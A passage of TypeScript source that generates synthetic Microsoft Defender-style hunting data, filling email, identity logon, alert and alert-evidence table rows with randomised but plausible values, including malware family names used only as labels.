  row.DeliveryAction = blocked ? 'Blocked' : threatType === 'Spam' ? 'Junked' : 'Delivered';
  row.DeliveryLocation = blocked ? 'Quarantine' : threatType === 'Spam' ? 'Junk folder' : 'Inbox/folder';
  row.LatestDeliveryAction = row.DeliveryAction;
  row.LatestDeliveryLocation = row.DeliveryLocation;
  if (threatType) {
    row.ThreatNames = threatType === 'Malware' ? pick(['Trojan:Win32/Qakbot', 'TrojanDownloader:O97M/Donoff']) : '';
    row.DetectionMethods = threatType === 'Phish' ? '{"Phish":["URL detonation reputation","Impersonation domain"]}' : threatType === 'Malware' ? '{"Malware":["File detonation"]}' : '{"Spam":["Mixed analysis detection"]}';
    row.ConfidenceLevel = `{"${threatType}":"High"}`;
    row.EmailAction = blocked ? 'Send to quarantine' : threatType === 'Spam' ? 'Move message to junk mail folder' : '';
    row.EmailActionPolicy = threatType === 'Spam' ? 'Antispam' : 'Antiphish';
  }
  row.BulkComplaintLevel = row.EmailDirection === 'Inbound' ? int(0, 9) : null;
  row.AuthenticationDetails = threatType === 'Phish' ? FAIL_AUTH : PASS_AUTH;
  row.AttachmentCount = threatType === 'Malware' ? 1 : random() < 0.25 ? int(1, 3) : 0;
  row.UrlCount = int(0, 12);
  row.EmailLanguage = 'en';
  row.Connectors = '';
  row.OrgLevelAction = blocked ? 'Quarantine' : '';
  row.ReportId = `${networkMessageId}-${int(1_000_000_000, 9_999_999_999)}-1`;
  row.To = row.RecipientEmailAddress;
  row.EmailSize = int(4_000, 3_000_000);
  row.IsFirstContact = random() < 0.1 ? 1 : 0;
}

const IDENTITY_SUCCESS_DETAILS = Object.freeze({});
const IDENTITY_FAILURE_DETAILS = Object.freeze({ 'Pass-through': false, Count: 1 });
const CLOUD_APPS = ['Office 365', 'Microsoft Teams', 'Microsoft Exchange Online', 'Microsoft SharePoint Online', 'Azure Portal'] as const;
const LOCATIONS = [['US', 'Comcast Cable'], ['US', 'Verizon Business'], ['GB', 'British Telecommunications'], ['DE', 'Deutsche Telekom AG'], ['NL', 'M247 Ltd']] as const;

function identityLogonEvent(tools: RandomTools, world: World, row: Row, ts: number): void {
  const { random, int, pick } = tools;
  const user = pick(world.users);
  const onPrem = random() < 0.5;
  const failed = random() < 0.08;
  row.Timestamp = ts;
  row.ActionType = failed ? 'LogonFailed' : 'LogonSuccess';
  row.AccountName = user.accountName;
  row.AccountDomain = TENANT_DOMAIN;
  row.AccountUpn = user.upn;
  row.AccountSid = user.sid;
  row.AccountObjectId = user.objectId;
  row.AccountDisplayName = user.displayName;
  if (onPrem) {
    const machine = pick(world.machines);
    row.Application = 'Active Directory';
    row.LogonType = pick(['Credentials validation', 'Resource access', 'Interactive']);
    row.Protocol = random() < 0.8 ? 'Kerberos' : 'Ntlm';
    row.DeviceName = machine.device.deviceName.split('.')[0]?.toUpperCase() ?? '';
    row.DeviceType = machine.device.server ? 'Server' : 'Desktop';
    row.OSPlatform = machine.device.osPlatform;
    row.IPAddress = machine.device.localIp;
    row.Port = int(49_152, 65_535);
    row.DestinationDeviceName = world.domainController.deviceName;
    row.DestinationIPAddress = world.domainController.ip;
    row.DestinationPort = row.Protocol === 'Kerberos' ? 88 : 445;
  } else {
    const [location, isp] = pick(LOCATIONS);
    row.Application = pick(CLOUD_APPS);
    row.LogonType = pick(['Login:login', 'Login:reauthenticate', 'OAuth2:Token']);
    row.IPAddress = pick(world.publicIps);
    row.Location = location;
    row.Isp = isp;
    row.DeviceType = pick(['Desktop', 'Mobile']);
    row.OSPlatform = pick(['Windows', 'iOS', 'Android', 'MacOS']);
  }
  if (failed) row.FailureReason = onPrem ? 'WrongPassword' : 'Invalid username or password or Invalid on-premise username or password.';
  row.ReportId = `${int(10_000_000, 99_999_999)}-${int(1_000, 9_999)}`;
  row.AdditionalFields = failed ? IDENTITY_FAILURE_DETAILS : IDENTITY_SUCCESS_DETAILS;
}

// ---------------------------------------------------------------- alerts

/** Enough alerts of `generateIncidents` (same seed) to fill `budget` rows of AlertInfo and AlertEvidence. */
function syntheticAlerts(seed: number, budget: number, now: Date): LegacyAlertWire[] {
  if (budget === 0) return [];
  return generateIncidents({ seed, count: Math.ceil(budget / 4) + 2, now }).flatMap((incident) => incident.alerts);
}

const EVIDENCE_TYPES: Readonly<Record<string, string>> = { MailBox: 'Mailbox', Registry: 'RegistryValue' };

/** AlertInfo and AlertEvidence rows for `alerts`, newest first, until `budget` rows. */
function alertTables(budget: number, alerts: readonly LegacyAlertWire[], nowMs: number, world: World): { info: Row[]; evidence: Row[] } {
  const info: Row[] = [];
  const evidence: Row[] = [];
  if (budget === 0) return { info, evidence };
  const infoTemplate = template('AlertInfo');
  const evidenceTemplate = template('AlertEvidence');
  const deviceNames = new Map(world.machines.map((m) => [m.device.deviceId, m.device.deviceName]));
  const dated = alerts
    .map((alert) => ({ alert, ms: Date.parse(alert.creationTime) }))
    .filter(({ ms }) => Number.isFinite(ms) && ms <= nowMs && ms > nowMs - WINDOW)
    .sort((a, b) => b.ms - a.ms);
  for (const { alert, ms } of dated) {
    if (info.length + evidence.length >= budget) break;
    const techniques = JSON.stringify(alert.mitreTechniques.map((t) => TECHNIQUE_NAMES[t] ?? t));
    const serviceSource = HUNTING_SERVICE_SOURCE[alert.serviceSource] ?? alert.serviceSource;
    const detectionSource = HUNTING_DETECTION_SOURCE[alert.detectionSource] ?? alert.detectionSource;
    info.push({ ...infoTemplate, Timestamp: ms, AlertId: alert.alertId, Title: alert.title, Category: alert.category, Severity: alert.severity, ServiceSource: serviceSource, DetectionSource: detectionSource, AttackTechniques: techniques });
    const common = { Timestamp: ms, AlertId: alert.alertId, Title: alert.title, Categories: JSON.stringify([alert.category]), AttackTechniques: techniques, ServiceSource: serviceSource, DetectionSource: detectionSource, Severity: alert.severity };
    const items: Row[] = [];
    for (const device of alert.devices) {
      items.push({ ...evidenceTemplate, ...common, EntityType: 'Machine', EvidenceRole: 'Impacted', DeviceId: device.mdatpDeviceId, DeviceName: device.deviceDnsName });
    }
    for (const entity of alert.entities) {
      const row: Row = { ...evidenceTemplate, ...common, EntityType: EVIDENCE_TYPES[entity.entityType] ?? entity.entityType, EvidenceRole: entity.entityType === 'User' || entity.entityType === 'MailBox' ? 'Impacted' : 'Related' };
      const s = (key: string): string => (typeof entity[key] === 'string' ? (entity[key] as string) : '');
      if (s('deviceId')) {
        row.DeviceId = s('deviceId');
        row.DeviceName = deviceNames.get(s('deviceId')) ?? alert.devices.find((d) => d.mdatpDeviceId === s('deviceId'))?.deviceDnsName ?? '';
      }
      row.FileName = s('fileName');
      row.FolderPath = s('filePath') && s('fileName') ? `${s('filePath')}\\${s('fileName')}` : s('filePath');
      row.SHA1 = s('sha1');
      row.SHA256 = s('sha256');
      row.ThreatFamily = entity.entityType === 'File' ? (alert.threatFamilyName ?? '') : '';
      row.RemoteIP = s('ipAddress');
      if (row.RemoteIP) row.EvidenceDirection = 'Source';
      row.RemoteUrl = s('url');
      row.AccountName = s('accountName');
      row.AccountDomain = s('domainName').toLowerCase();
      row.AccountSid = s('userSid');
      row.AccountObjectId = s('aadUserId');
      row.AccountUpn = s('userPrincipalName') || s('mailboxAddress');
      row.EmailSubject = s('subject');
      row.ProcessCommandLine = s('processCommandLine');
      row.RegistryKey = s('registryKey') ? `${s('registryHive')}\\${s('registryKey')}` : '';
      row.RegistryValueData = s('registryValue');
      if (entity.entityType === 'MailMessage') row.NetworkMessageId = s('networkMessageId');
      items.push(row);
    }
    evidence.push(...items.slice(0, Math.max(0, budget - info.length - evidence.length)));
  }
  return { info, evidence };
}
